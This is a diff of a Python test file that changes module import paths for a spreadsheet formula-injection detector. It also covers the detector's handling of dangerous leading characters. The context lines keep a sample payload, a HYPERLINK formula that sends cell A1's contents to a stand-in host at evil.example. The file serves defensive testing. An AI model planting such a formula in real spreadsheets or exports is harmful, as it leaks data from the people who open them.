@@ -6,7 +6,7 @@ import pytest
 
 import utmost as ut
 from running import called
-from utmost.publish.tables.formulas import is_computed
+from utmost.tables.files.formulas import is_computed
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 COMPUTED = [
@@ -117,7 +117,7 @@ def test_the_quick_look_passes_nothing_that_the_whole_rule_finds():
     """Over cells of all signs that the rule knows, each beside each, at the beginning of a file and within."""
     from itertools import product
 
-    from utmost.publish.tables.formulas import _FORMULA
+    from utmost.tables.files.formulas import _FORMULA
 
     signs = [b"=", b"-", b"+", b"@", b"(", b"!", b"|", b"[", b",", b"\n", b'"', b" ", b"'", b"5", b"a",
              "\uff1d".encode(), "\uff0b".encode(), "\ufeff".encode(), "\u200b".encode(), "\u3000".encode(),
